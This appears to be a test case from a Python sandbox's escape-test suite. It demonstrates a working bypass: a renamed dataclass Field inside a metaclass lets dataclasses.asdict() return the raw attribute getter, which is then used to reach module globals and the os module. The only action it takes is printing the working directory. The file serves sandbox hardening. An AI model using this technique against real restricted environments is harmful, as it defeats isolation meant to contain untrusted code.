# asdict()/astuple()/replace() read getattr(obj, f.name) for each Field: a Field renamed after
# the class was made, or any object in a __dataclass_fields__ (a plain class attribute), names
# what is read; a metaclass that is "a dataclass" makes the class itself the object read.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "110_dataclass_fields_renamed"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import dataclasses
import random

D = dataclasses.make_dataclass("D", [("read", int)], init=False, repr=False, eq=False)
field = dataclasses.fields(D)[0]
field.name = "__getattribute__"
Meta = type("Meta", (type,), {"__dataclass_fields__": {"read": field}})
X = Meta("X", (), {})
read = dataclasses.asdict(X)["__getattribute__"]
module_globals = read(read(random.shuffle, "__func__"), "__globals__")
won(module_globals["_os"].getcwd())
